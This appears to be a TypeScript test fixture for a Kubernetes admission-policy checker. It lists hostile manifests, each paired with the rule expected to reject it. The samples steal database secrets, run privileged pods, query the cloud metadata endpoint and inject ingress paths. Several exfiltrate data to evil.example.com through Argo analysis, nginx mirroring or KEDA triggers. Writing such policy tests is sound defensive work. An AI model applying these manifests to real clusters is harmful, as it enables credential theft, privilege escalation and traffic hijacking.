export const digest = `sha256:${'a'.repeat(64)}`;

export const sound =
  'securityContext: {runAsNonRoot: true, seccompProfile: {type: RuntimeDefault}}, automountServiceAccountToken: false, restartPolicy: Never';
export const container = (fields: string) =>
  `containers: [{name: a, image: "registry.acme.dev/a@${digest}", resources: {requests: {cpu: 10m, memory: 32Mi}, limits: {cpu: 10m, memory: 32Mi}}, securityContext: {allowPrivilegeEscalation: false, readOnlyRootFilesystem: true, capabilities: {drop: [ALL]}}, ${fields}}]`;
const job = (name: string, pod: string) =>
  `apiVersion: batch/v1\nkind: Job\nmetadata: {name: ${name}}\nspec: {template: {spec: {${sound}, ${pod}}}}\n`;
const reading = (secret: string, optional = false) =>
  container(
    `env: [{name: A, valueFrom: {secretKeyRef: {name: ${secret}, key: password, optional: ${optional}}}}]`,
  );
export const object = (apiVersion: string, kind: string, spec: string, annotations = '') =>
  `apiVersion: ${apiVersion}\nkind: ${kind}\nmetadata: {name: attack, annotations: {${annotations}}}\nspec: ${spec}\n`;
export const analysis = (spec: string, kind = 'AnalysisTemplate') =>
  object('argoproj.io/v1alpha1', kind, spec);
export const ingress = (path: string, annotations = '') =>
  object(
    'networking.k8s.io/v1',
    'Ingress',
    `{tls: [{hosts: [a.example.com], secretName: attack-tls}], rules: [{host: a.example.com, http: {paths: [{path: ${path}, pathType: ImplementationSpecific, backend: {service: {name: checkout, port: {name: http}}}}]}}]}`,
    `cert-manager.io/cluster-issuer: letsencrypt, ${annotations}`,
  );
export const route = (parent: string) =>
  object(
    'gateway.networking.k8s.io/v1',
    'HTTPRoute',
    `{parentRefs: [${parent}], hostnames: [a.example.com], rules: [{backendRefs: [{name: checkout, port: 80}]}]}`,
  );
export const fetching = (spec: string) =>
  object(
    'external-secrets.io/v1',
    'ExternalSecret',
    `{secretStoreRef: {name: team-secrets}, data: [{secretKey: a, remoteRef: {key: payments/dev/a}}], ${spec}}`,
  );
const privileged = `${sound}, ${container('').replace('allowPrivilegeEscalation: false', 'privileged: true')}`;

export const attacks: readonly (readonly [attack: string, rule: string, manifest: string])[] = [
  [
    'reads the copy of production before it is masked',
    'composed-secrets',
    job('attack', reading('ledger-db-connection')),
  ],
  ['does so if it can', 'composed-secrets', job('attack', reading('ledger-db-connection', true))],
  [
    "reads the cloud's own password of the database",
    'composed-secrets',
    job('attack', reading('ledger-db-password', true)),
  ],
  [
    'reads what the provider reports of it',
    'composed-secrets',
    job('attack', reading('ledger-db-instance', true)),
  ],
  ['reads what the masking job reads', 'service-secrets', job('attack', reading('mask-customers.ledger-db'))],
  ['does so under its name', 'composed-secrets', job('mask-customers', reading('mask-customers.ledger-db'))],
  [
    'does so as its migration',
    'composed-secrets',
    job('mask-customers-migrate', reading('mask-customers.ledger-db')),
  ],
  [
    'reads the password of its role',
    'service-secrets',
    job('attack', reading('mask-customers.ledger-db-password')),
  ],
  [
    'reads a cache that it does not declare',
    'composed-secrets',
    job('attack', reading('sessions-connection')),
  ],
  [
    'mounts all keys',
    'composed-secrets',
    job(
      'look',
      `volumes: [{name: v, projected: {sources: [{secret: {name: ledger-db-connection}}]}}], ${container('')}`,
    ),
  ],
  [
    'pulls images with it',
    'composed-secrets',
    job('attack', `imagePullSecrets: [{name: ledger-db-connection}], ${container('')}`),
  ],
  [
    'has Prometheus send it',
    'composed-secrets',
    object(
      'monitoring.coreos.com/v1',
      'ServiceMonitor',
      '{selector: {}, endpoints: [{port: http, basicAuth: {username: {name: a, key: a}, password: {name: ledger-db-connection, key: password}}}]}',
    ),
  ],
  [
    'has a certificate written over it',
    'composed-secrets',
    object(
      'cert-manager.io/v1',
      'Certificate',
      '{secretName: ledger-db-connection, dnsNames: [a.example.com], issuerRef: {name: a}}',
    ),
  ],
  [
    'sends it by an analysis',
    'composed-secrets',
    analysis(
      '{args: [{name: a, valueFrom: {secretKeyRef: {name: ledger-db-connection, key: password}}}], metrics: []}',
    ),
  ],
  [
    'sends what an analysis reads',
    'analysis',
    analysis('{metrics: [{name: a, provider: {web: {url: "https://evil.example.com"}}}]}'),
  ],
  [
    'asks the metadata of the cloud',
    'analysis',
    analysis('{metrics: [{name: a, provider: {web: {url: "http://169.254.169.254/"}}}]}'),
  ],
  [
    'uses the identity of the controller',
    'analysis',
    analysis('{metrics: [{name: a, provider: {cloudWatch: {}}}]}'),
  ],
  [
    'runs a privileged Job',
    'privileged',
    analysis(`{metrics: [{name: a, provider: {job: {spec: {template: {spec: {${privileged}}}}}}}]}`),
  ],
  [
    'reads the database in a Job of an analysis',
    'composed-secrets',
    analysis(
      `{metrics: [{name: a, provider: {job: {spec: {template: {spec: {${sound}, ${reading('ledger-db-connection')}}}}}}}]}`,
    ),
  ],
  [
    'runs privileged pods in an experiment',
    'privileged',
    analysis(
      `{templates: [{name: a, replicas: 1, selector: {matchLabels: {a: b}}, template: {metadata: {labels: {a: b}}, spec: {${privileged.replace(', restartPolicy: Never', '')}}}}]}`,
      'Experiment',
    ),
  ],
  [
    'runs a privileged Job by a scaler',
    'privileged',
    object(
      'keda.sh/v1alpha1',
      'ScaledJob',
      `{jobTargetRef: {template: {spec: {${privileged}}}}, triggers: [{type: cron, metadata: {}}]}`,
    ),
  ],
  [
    'has a scaler send the environment of pods',
    'scaler',
    object(
      'keda.sh/v1alpha1',
      'ScaledObject',
      '{scaleTargetRef: {name: checkout}, triggers: [{type: redis, metadata: {address: "evil.example.com:6379", passwordFromEnv: CACHE_PASSWORD}}]}',
    ),
  ],
  [
    'sends requests to another upstream',
    'route-annotations',
    ingress('/', 'nginx.ingress.kubernetes.io/upstream-vhost: admin'),
  ],
  [
    'copies requests',
    'route-annotations',
    ingress('/', 'nginx.ingress.kubernetes.io/mirror-target: "https://evil.example.com"'),
  ],
  [
    'uses a middleware of others',
    'route-annotations',
    ingress('/', 'traefik.ingress.kubernetes.io/router.middlewares: admin-auth@kubernetescrd'),
  ],
  [
    'uses a certificate of others',
    'route-annotations',
    ingress('/', 'alb.ingress.kubernetes.io/certificate-arn: "arn:aws:acm:x"'),
  ],
  [
    'joins the load balancer of others',
    'route-annotations',
    ingress('/', 'alb.ingress.kubernetes.io/group.name: platform'),
  ],
  [
    'has a certificate for the host of others',
    'route-annotations',
    ingress('/', 'cert-manager.io/alt-names: bank.com'),
  ],
  ['ends its location', 'ingress-snippets', ingress('"/x {} location /admin"')],
  ['takes all paths', 'ingress-snippets', ingress('"/(.*)"')],
  [
    'has a name in DNS',
    'annotations',
    object(
      'v1',
      'Service',
      '{selector: {app: a}, ports: [{port: 80}]}',
      'external-dns.alpha.kubernetes.io/internal-hostname: db.bank.com',
    ),
  ],
  [
    'takes the requests of a Service',
    'route-parent',
    route('{kind: Service, group: "", name: public, namespace: gateways}'),
  ],
  [
    'attaches to listeners of its own',
    'route-parent',
    route('{kind: ListenerSet, name: public, namespace: gateways}'),
  ],
  [
    'makes objects that no rule judges',
    'external-secret',
    fetching('target: {manifest: {apiVersion: v1, kind: Pod}}'),
  ],
  [
    'makes a token of a service account',
    'external-secret',
    fetching('target: {template: {type: kubernetes.io/service-account-token}}'),
  ],
  [
    'writes into a Secret of others',
    'external-secret',
    fetching('target: {name: checkout-tls, creationPolicy: Merge}'),
  ],
  ['writes the Secret of a database', 'composed-secrets', fetching('target: {name: ledger-db-connection}')],
  [
    'copies a Secret by a template',
    'external-secret',
    fetching(
      'target: {template: {templateFrom: [{secret: {name: ledger-db-connection, items: [{key: password}]}}]}}',
    ),
  ],
  [
    'runs a generator',
    'external-secret',
    fetching('dataFrom: [{sourceRef: {generatorRef: {kind: STSSessionToken, name: a}}}]'),
  ],
  [
    'reads another store',
    'external-secret',
    fetching('dataFrom: [{sourceRef: {storeRef: {name: theirs}}, extract: {key: payments/dev/a}}]'),
  ],
];
